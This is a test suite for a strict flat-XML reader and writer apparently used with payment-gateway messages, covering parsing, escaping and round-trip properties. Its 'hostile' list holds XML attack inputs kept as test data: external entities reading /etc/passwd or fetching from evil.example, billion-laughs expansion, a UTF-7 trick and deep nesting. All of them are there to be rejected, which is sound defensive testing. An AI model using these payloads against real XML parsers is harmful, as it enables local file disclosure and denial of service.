import fc from 'fast-check'
import { XMLParser, XMLValidator } from 'fast-xml-parser'
import { FlatXmlError, readFlatXml, writeFlatXml } from 'wxpay-core'

function read(xml: string | Uint8Array, root?: 'xml' | 'root'): Readonly<Record<string, string>> {
  return Object.fromEntries(readFlatXml(typeof xml === 'string' ? Buffer.from(xml) : xml, root))
}

describe('values are read exactly as written', () => {
  test.each([
    ['digits stay text', '<xml><total_fee>0100</total_fee></xml>', '0100'],
    [
      '28 digits stay whole',
      '<xml><id>1004400740201409030005092168</id></xml>',
      '1004400740201409030005092168',
    ],
    ['blanks are kept', '<xml><a> x\n</a></xml>', ' x\n'],
    ['empty text', '<xml><a></a></xml>', ''],
    ['empty CDATA', '<xml><a><![CDATA[]]></a></xml>', ''],
    ['an element closed in itself', '<xml><a/></xml>', ''],
    ['CDATA hides markup', '<xml><a><![CDATA[<b>&amp;</b>]]]]></a></xml>', '<b>&amp;</b>]]'],
    ['the five entities', '<xml><a>&lt;&gt;&amp;&quot;&apos;</a></xml>', '<>&"\''],
    ['an entity is opened once', '<xml><a>&amp;lt;</a></xml>', '&lt;'],
    ['numeric references', '<xml><a>&#25903;&#x4ED8;&#x1F600;&#13;</a></xml>', '支付😀\r'],
    ['a declaration', '<?xml version="1.0" encoding="UTF-8"?>\n<xml><a>支付</a></xml>', '支付'],
    [
      'a declaration in single quotes',
      "<?xml version='1.0' encoding='utf-8' standalone='yes'?><xml><a>x</a></xml>",
      'x',
    ],
    ['a declaration without an encoding', '<?xml version="1.0" standalone="no"?><xml><a>x</a></xml>', 'x'],
    [
      'a declaration with more blanks',
      '<?xml \t\r\nversion="1.0"\r\n\tencoding="Utf-8"\t\n\rstandalone="yes" \t\r\n?><xml><a>x</a></xml>',
      'x',
    ],
    ['a blank between XML and its members', '<xml>\r<a>x</a>\t</xml>', 'x'],
    [
      'references at the edges',
      '<xml><a>&#xD7FF;&#xE000;&#x10FFFF;&#1114111;&#9;</a></xml>',
      '\ud7ff\ue000\u{10ffff}\u{10ffff}\t',
    ],
    ['hexadecimal digits of either case', '<xml><a>&#xaFfA;&#x0F9a9;</a></xml>', '\uaffa\uf9a9'],
    ['references with noughts in front', '<xml><a>&#0000065;&#x000041;</a></xml>', 'AA'],
    ['a reference between words', '<xml><a>a&amp;b&lt;c</a></xml>', 'a&b<c'],
    ['blanks around', '\n <xml>\t<a>x</a>\r\n</xml>\n', 'x'],
  ])('%s', (_, xml, value) => {
    expect(Object.values(read(xml))).toEqual([value])
  })

  test.each([
    'a',
    'z',
    'A',
    'Z',
    '_',
    'a0',
    'a9',
    'az',
    'aA',
    'aZ',
    'a_',
    'coupon_id_$0',
    'a$b$c',
    'n'.repeat(64),
  ])('the name %s is one, read and written', (name) => {
    expect(read(`<xml><${name}>x</${name}></xml>`)).toEqual({ [name]: 'x' })
    expect(read(`<xml><${name}/></xml>`)).toEqual({ [name]: '' })
    expect(writeFlatXml({ [name]: 'x' })).toBe(`<xml><${name}><![CDATA[x]]></${name}></xml>`)
  })

  test('a document of 64 KB is read', () => {
    const text = 'x'.repeat(65_536 - '<xml><a></a></xml>'.length)
    expect(read(`<xml><a>${text}</a></xml>`)).toEqual({ a: text })
  })

  test('what a refusal is, can be asked', () => {
    expect(new FlatXmlError('not UTF-8').name).toBe('FlatXmlError')
  })

  test('an empty document has no members', () => {
    expect(read('<xml></xml>')).toEqual({})
  })

  test('<root> is read when asked for, and only then', () => {
    expect(read('<root><a>x</a></root>', 'root')).toEqual({ a: 'x' })
    expect(() => read('<root><a>x</a></root>')).toThrow('no <xml> at the start')
    expect(() => read('<xml><a>x</a></xml>', 'root')).toThrow('no <root> at the start')
  })

  test('names of Object.prototype are names like others', () => {
    const members = readFlatXml(
      Buffer.from('<xml><__proto__>1</__proto__><constructor>2</constructor></xml>'),
    )
    expect([...members]).toEqual([
      ['__proto__', '1'],
      ['constructor', '2'],
    ])
    expect(Object.hasOwn(Object.prototype, '1')).toBe(false)
    expect(members.get('toString')).toBeUndefined()
  })

  test('a view into a larger buffer is read within its bounds', () => {
    const large = Buffer.from('junk<xml><a>x</a></xml>junk')
    expect(read(new Uint8Array(large.buffer, large.byteOffset + 4, 19))).toEqual({ a: 'x' })
  })
})

const hostile: readonly (readonly [what: string, xml: string, reason: string])[] = [
  ['nothing', '', 'no <xml> at the start'],
  ['blanks', '  \n', 'no <xml> at the start'],
  ['text', 'SUCCESS', 'no <xml> at the start'],
  ['JSON', '{"xml":1}', 'no <xml> at the start'],
  ['HTML', '<html><body>502 Bad Gateway</body></html>', 'no <xml> at the start'],
  ['a byte order mark', '\ufeff<xml><a>x</a></xml>', 'no <xml> at the start'],
  ['a document type', '<!DOCTYPE xml><xml><a>x</a></xml>', 'no <xml> at the start'],
  [
    'an external entity',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><a>&e;</a></xml>',
    'no <xml> at the start',
  ],
  [
    'a parameter entity',
    '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x"> %e;]><xml><a>x</a></xml>',
    'no <xml> at the start',
  ],
  [
    'a billion laughs',
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><xml><a>&b;&b;&b;&b;</a></xml>',
    'no <xml> at the start',
  ],
  ['two document types', '<!DOCTYPE a><!DOCTYPE b><xml><a>x</a></xml>', 'no <xml> at the start'],
  ['a document type after the root', '<xml><a>x</a></xml><!DOCTYPE a>', 'something after </xml>'],
  ['an unknown entity', '<xml><a>&nbsp;</a></xml>', 'an unknown reference'],
  ['an entity named like a method', '<xml><a>&toString;</a></xml>', 'an unknown reference'],
  ['a bare ampersand', '<xml><a>a & b</a></xml>', 'an unknown reference'],
  ['an ampersand at the end', '<xml><a>a&</a></xml>', 'an unknown reference'],
  ['an endless reference', `<xml><a>&#${'0'.repeat(1000)}65;</a></xml>`, 'an unknown reference'],
  ['a reference past Unicode', '<xml><a>&#9999999;</a></xml>', 'a reference to no character'],
  ['a reference past Unicode in hex', '<xml><a>&#x110000;</a></xml>', 'a reference to no character'],
  ['a reference to NUL', '<xml><a>&#0;</a></xml>', 'a character that XML forbids'],
  ['a reference to a control character', '<xml><a>&#x1B;</a></xml>', 'a character that XML forbids'],
  ['a reference to half a character', '<xml><a>&#xD800;</a></xml>', 'a reference to no character'],
  ['a reference to a non-character', '<xml><a>&#xFFFE;</a></xml>', 'a character that XML forbids'],
  ['a negative reference', '<xml><a>&#-1;</a></xml>', 'an unknown reference'],
  ['an empty reference', '<xml><a>&;</a></xml>', 'an unknown reference'],
  ['a comment', '<xml><!-- x --><a>x</a></xml>', 'something other than a plain element'],
  [
    'a comment inside an amount',
    '<xml><total_fee>1<!-- -->00</total_fee></xml>',
    'an element that holds more than one text',
  ],
  ['a comment before the root', '<!-- x --><xml><a>x</a></xml>', 'no <xml> at the start'],
  ['a comment after the root', '<xml><a>x</a></xml><!-- x -->', 'something after </xml>'],
  ['a processing instruction', '<xml><?php echo 1 ?><a>x</a></xml>', 'something other than a plain element'],
  ['a stylesheet', '<?xml-stylesheet href="x"?><xml><a>x</a></xml>', 'no <xml> at the start'],
  ['a declaration behind a blank', ' <?xml version="1.0"?><xml><a>x</a></xml>', 'no <xml> at the start'],
  [
    'two declarations',
    '<?xml version="1.0"?><?xml version="1.0"?><xml><a>x</a></xml>',
    'no <xml> at the start',
  ],
  ['another XML version', '<?xml version="1.1"?><xml><a>x</a></xml>', 'no <xml> at the start'],
  ['another encoding', '<?xml version="1.0" encoding="GBK"?><xml><a>x</a></xml>', 'no <xml> at the start'],
  [
    'an encoding attack',
    '<?xml version="1.0" encoding="UTF-7"?><xml><a>+ADw-</a></xml>',
    'no <xml> at the start',
  ],
  ['an attribute', '<xml><a b="c">x</a></xml>', 'something other than a plain element'],
  ['an attribute of the root', '<xml a="b"><a>x</a></xml>', 'no <xml> at the start'],
  ['a blank in a tag', '<xml><a >x</a></xml>', 'something other than a plain element'],
  ['a blank in a closing tag', '<xml><a>x</a ></xml>', 'an element that holds more than one text'],
  ['a name space', '<xml><x:a>x</x:a></xml>', 'something other than a plain element'],
  ['a name starting with a digit', '<xml><1>x</1></xml>', 'something other than a plain element'],
  ['a name that is not ASCII', '<xml><金额>1</金额></xml>', 'something other than a plain element'],
  [
    'a name of 65 characters',
    `<xml><${'a'.repeat(65)}>x</${'a'.repeat(65)}></xml>`,
    'something other than a plain element',
  ],
  ['an empty name', '<xml><>x</></xml>', 'something other than a plain element'],
  ['nesting', '<xml><a><b>x</b></a></xml>', 'an element that holds more than one text'],
  [
    'the same element twice',
    '<xml><total_fee>1</total_fee><total_fee>100</total_fee></xml>',
    'the same element twice',
  ],
  ['the same element twice, once empty', '<xml><sign/><sign>x</sign></xml>', 'the same element twice'],
  [
    'two CDATA sections',
    '<xml><a><![CDATA[1]]><![CDATA[00]]></a></xml>',
    'an element that holds more than one text',
  ],
  ['text before CDATA', '<xml><a>1<![CDATA[00]]></a></xml>', 'an element that holds more than one text'],
  ['text after CDATA', '<xml><a><![CDATA[1]]>00</a></xml>', 'an element that holds more than one text'],
  ['a blank after CDATA', '<xml><a><![CDATA[1]]> </a></xml>', 'an element that holds more than one text'],
  ['CDATA end in text', '<xml><a>x]]></a></xml>', ']]> in text'],
  ['CDATA between elements', '<xml><![CDATA[x]]><a>x</a></xml>', 'something other than a plain element'],
  ['lower-case CDATA', '<xml><a><![cdata[x]]></a></xml>', 'an element that holds more than one text'],
  ['text between elements', '<xml><a>x</a>y<b>z</b></xml>', 'text between elements'],
  ['two roots', '<xml><a>x</a></xml><xml><a>y</a></xml>', 'something after </xml>'],
  ['text after the root', '<xml><a>x</a></xml>y', 'something after </xml>'],
  ['NUL after the root', '<xml><a>x</a></xml>\u0000', 'a character that XML forbids'],
  ['NUL in a value', '<xml><a>x\u0000y</a></xml>', 'a character that XML forbids'],
  [
    'a control character in CDATA',
    '<xml><a><![CDATA[\u001b[31m]]></a></xml>',
    'a character that XML forbids',
  ],
  ['a non-character', '<xml><a>\uffff</a></xml>', 'a character that XML forbids'],
  ['the wrong closing tag', '<xml><a>x</b></xml>', 'an element that holds more than one text'],
  ['a closing tag of another case', '<xml><a>x</A></xml>', 'an element that holds more than one text'],
  ['an upper-case root', '<XML><a>x</a></XML>', 'no <xml> at the start'],
  ['more than 64 KB', `<xml><a>${'x'.repeat(65_536)}</a></xml>`, 'document over 64 KB'],
  ['deep nesting', `<xml>${'<a>'.repeat(10_000)}`, 'an element that holds more than one text'],
  ['a document that ends in a value', '<xml><a>x', 'the document ends too early'],
  ['a document that ends in CDATA', '<xml><a><![CDATA[x]]', 'the document ends too early'],
  ['a document that ends in a name', '<xml><a', 'the document ends too early'],
  ['a document that ends in a closing tag', '<xml><a>x</a', 'an element that holds more than one text'],
  ['a document that ends in the root', '<xml><a>x</a>', 'the document ends too early'],
  ['a name that ends in $', '<xml><a$>x</a$></xml>', 'something other than a plain element'],
  ['a name with $$', '<xml><a$$b>x</a$$b></xml>', 'something other than a plain element'],
  ['a name that starts with $', '<xml><$a>x</$a></xml>', 'something other than a plain element'],
  ['a name with a point', '<xml><a.b>x</a.b></xml>', 'something other than a plain element'],
  [
    'a name with what stands beside the letters',
    '<xml><a@>x</a@></xml>',
    'something other than a plain element',
  ],
  ['a name with [', '<xml><a[>x</a[></xml>', 'something other than a plain element'],
  ['a name with a back-tick', '<xml><a`>x</a`></xml>', 'something other than a plain element'],
  ['a name with {', '<xml><a{>x</a{></xml>', 'something other than a plain element'],
  ['a name with a colon', '<xml><a:>x</a:></xml>', 'something other than a plain element'],
  ['a solidus that closes nothing', '<xml><a/ >x</a></xml>', 'something other than a plain element'],
  [
    'a closing tag without its <',
    '<xml><a><![CDATA[1]]>x/a></xml>',
    'an element that holds more than one text',
  ],
  [
    'text as long as a declaration that comes last',
    `${'x'.repeat(21)}<xml><a>x</a></xml><?xml version="1.0"?>`,
    'no <xml> at the start',
  ],
  ['a closing tag cut short', '<xml><ab>x</a></xml>', 'an element that holds more than one text'],
  ['a closing tag that goes on', '<xml><a>x</ab></xml>', 'an element that holds more than one text'],
  [
    'an opening tag where a closing one belongs',
    '<xml><a>x< a></xml>',
    'an element that holds more than one text',
  ],
  ['text that starts like an element', '<xml>a><b>x</b></xml>', 'text between elements'],
  ['a reference with letters for digits', '<xml><a>&#6a;</a></xml>', 'an unknown reference'],
  ['a reference in upper-case X', '<xml><a>&#X41;</a></xml>', 'an unknown reference'],
  ['a reference with something before it', '<xml><a>&x#65;</a></xml>', 'an unknown reference'],
  ['a reference with something after it', '<xml><a>&#65x;</a></xml>', 'an unknown reference'],
  ['a reference of eight digits', '<xml><a>&#00000065;</a></xml>', 'an unknown reference'],
  ['a reference of seven hexadecimal digits', '<xml><a>&#x0000041;</a></xml>', 'an unknown reference'],
  [
    'a reference to the last half of a character',
    '<xml><a>&#xDFFF;</a></xml>',
    'a reference to no character',
  ],
  ['a reference without its end', '<xml><a>&amp</a></xml>', 'an unknown reference'],
  ['a declaration without a version', '<?xml encoding="UTF-8"?><xml><a>x</a></xml>', 'no <xml> at the start'],
  [
    'a declaration with two kinds of quotes',
    '<?xml version="1.0\'?><xml><a>x</a></xml>',
    'no <xml> at the start',
  ],
  [
    'a declaration with an encoding in two kinds of quotes',
    '<?xml version="1.0" encoding="UTF-8\'?><xml><a>x</a></xml>',
    'no <xml> at the start',
  ],
  [
    'a declaration with standalone in two kinds of quotes',
    '<?xml version="1.0" standalone="yes\'?><xml><a>x</a></xml>',
    'no <xml> at the start',
  ],
  [
    'a declaration with something else',
    '<?xml version="1.0" standalone="maybe"?><xml><a>x</a></xml>',
    'no <xml> at the start',
  ],
  [
    'a declaration with its parts run together',
    '<?xml version="1.0"encoding="UTF-8"?><xml><a>x</a></xml>',
    'no <xml> at the start',
  ],
  [
    'a declaration with standalone run on',
    '<?xml version="1.0"standalone="yes"?><xml><a>x</a></xml>',
    'no <xml> at the start',
  ],
  ['a declaration that starts late', 'x<?xml version="1.0"?><xml><a>x</a></xml>', 'no <xml> at the start'],
]

describe('what is written', () => {
  test('is CDATA, or escaped where CDATA cannot hold it', () => {
    expect(writeFlatXml({ a: '<&>', n: 1 })).toBe('<xml><a><![CDATA[<&>]]></a><n><![CDATA[1]]></n></xml>')
    expect(writeFlatXml({ a: 'x]]>&<y' })).toBe('<xml><a>x]]&gt;&amp;&lt;y</a></xml>')
    expect(writeFlatXml({ a: 'x\r\ny' })).toBe('<xml><a>x&#13;\ny</a></xml>')
    expect(writeFlatXml({})).toBe('<xml></xml>')
  })

  test.each(['', '1a', 'a b', 'a$', 'a$$b', '$a', 'a.b', '金额', 'n'.repeat(65), 'a>', ' a', 'a\n'])(
    'has no member named %j',
    (name) => {
      expect(() => writeFlatXml({ [name]: 'x' })).toThrow(
        new FlatXmlError('a member name outside the dialect'),
      )
    },
  )

  test.each(['\u0000', 'a\u001b', '\uffff', 'half \ud83d', '\udc00'])('does not hold %j', (value) => {
    expect(() => writeFlatXml({ a: value })).toThrow(new FlatXmlError('a character that XML forbids'))
  })
})

describe('documents outside the dialect are refused', () => {
  test.each(hostile)('%s', (_, xml, reason) => {
    expect(() => read(xml)).toThrow(new FlatXmlError(reason))
    expect(() => read(xml)).toThrow(FlatXmlError)
  })

  test.each([
    ['a lone continuation byte', [0x80]],
    ['an overlong slash', [0xc0, 0xaf]],
    ['a surrogate', [0xed, 0xa0, 0x80]],
    ['half a character', [0xe6, 0x94]],
    ['Latin-1', [0xe9]],
  ])('%s', (_, bytes) => {
    const xml = Buffer.concat([Buffer.from('<xml><a>'), Buffer.from(bytes), Buffer.from('</a></xml>')])
    expect(() => read(xml)).toThrow('not UTF-8')
  })

  test('UTF-16', () => {
    expect(() => read(Buffer.from('\ufeff<xml><a>x</a></xml>', 'utf16le'))).toThrow(FlatXmlError)
  })

  test('every truncation of a genuine document', () => {
    const whole = '<?xml version="1.0"?><xml><a><![CDATA[x]]></a><b>&amp;y</b><c/></xml>'
    expect(read(whole)).toEqual({ a: 'x', b: '&y', c: '' })
    for (let length = 0; length < whole.length; length += 1) {
      expect(() => read(whole.slice(0, length))).toThrow(FlatXmlError)
    }
  })

  test('the refusal never repeats the document', () => {
    for (const [, xml] of hostile) {
      try {
        read(xml)
      } catch (error) {
        expect(String(error)).not.toContain('passwd')
        expect(String(error).length).toBeLessThan(80)
      }
    }
  })
})

// What XML can hold at all; a carriage return only survives as a reference, which the writer takes care of.
const xmlText = fc
  .string({ unit: 'binary' })
  // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is left out
  .map((text) => text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, ''))
const nasty = fc.constantFrom(']]>', '<![CDATA[', '&amp;', '</xml>', '\r\n', '<!--', '&', '😀', ' ', '支付')
const anyValue = fc.oneof(
  xmlText,
  fc.array(fc.oneof(nasty, xmlText), { maxLength: 6 }).map((parts) => parts.join('')),
)
const anyName = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,20}$/)
const anyMembers = fc.dictionary(anyName, anyValue, { maxKeys: 12 })

const oracle = new XMLParser({
  parseTagValue: false,
  trimValues: false,
  ignoreAttributes: true,
  htmlEntities: false,
})

describe('properties', () => {
  test('what is written is read back, any text, any order', () => {
    fc.assert(
      fc.property(anyMembers, (members) => {
        expect(read(writeFlatXml(members))).toEqual(members)
      }),
    )
  })

  test('another reader understands what we write', () => {
    fc.assert(
      fc.property(anyName, anyValue, (name, value) => {
        fc.pre(
          !['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty'].includes(name),
        )
        const xml = writeFlatXml({ [name]: value })
        expect(XMLValidator.validate(xml)).toBe(true)
        // The oracle leaves numeric references alone without htmlEntities; only a carriage return is written as one.
        const seen: unknown = oracle.parse(xml).xml[name]
        expect(String(seen).replaceAll('&#13;', '\r')).toBe(value)
      }),
    )
  })

  test('whatever we accept, the other reader reads the same', () => {
    const piece = fc.constantFrom(
      '<xml>',
      '</xml>',
      '<a>',
      '</a>',
      '<b>',
      '</b>',
      '<a/>',
      'x',
      '1',
      ' ',
      '\n',
      '&amp;',
      '&lt;',
      '<![CDATA[',
      ']]>',
      '<!--',
      '-->',
      '&',
      '<?xml version="1.0"?>',
      '<!DOCTYPE a>',
      ' c="d"',
      '支',
    )
    const random = fc.array(piece, { maxLength: 12 }).map((parts) => parts.join(''))
    const framed = fc.array(piece, { maxLength: 8 }).map((parts) => `<xml><a>${parts.join('')}</a></xml>`)
    let accepted = 0
    fc.assert(
      fc.property(fc.oneof(random, framed), (xml) => {
        let ours: Readonly<Record<string, string>>
        try {
          ours = read(xml)
        } catch (error) {
          expect(error).toBeInstanceOf(FlatXmlError)
          return
        }
        accepted += 1
        const theirs: unknown = oracle.parse(xml).xml
        const { '#text': _, ...members }: Record<string, unknown> =
          typeof theirs === 'object' && theirs !== null ? { ...theirs } : {}
        expect(ours).toEqual(members)
      }),
      { numRuns: 3_000, seed: 20_261_123 },
    )
    expect(accepted).toBeGreaterThan(100)
  })

  test('random bytes never throw anything but a FlatXmlError', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => {
        try {
          readFlatXml(bytes)
        } catch (error) {
          expect(error).toBeInstanceOf(FlatXmlError)
        }
      }),
    )
  })
})

describe('the writer', () => {
  test('uses CDATA, and escaped text where CDATA would break', () => {
    expect(writeFlatXml({ a: '<b>&', c: 1 })).toBe('<xml><a><![CDATA[<b>&]]></a><c><![CDATA[1]]></c></xml>')
    expect(writeFlatXml({ a: 'x]]>&\r<' })).toBe('<xml><a>x]]&gt;&amp;&#13;&lt;</a></xml>')
  })

  test.each([
    ['NUL', 'x\u0000'],
    ['an escape character', '\u001b'],
    ['half a character', '\ud83d'],
    ['a non-character', '\ufffe'],
  ])('refuses %s', (_, value) => {
    expect(() => writeFlatXml({ a: value })).toThrow(FlatXmlError)
  })

  test.each(['', 'a b', 'a>', '1a', '金额', 'x:y'])('refuses the name "%s"', (name) => {
    expect(() => writeFlatXml({ [name]: 'x' })).toThrow(FlatXmlError)
  })
})
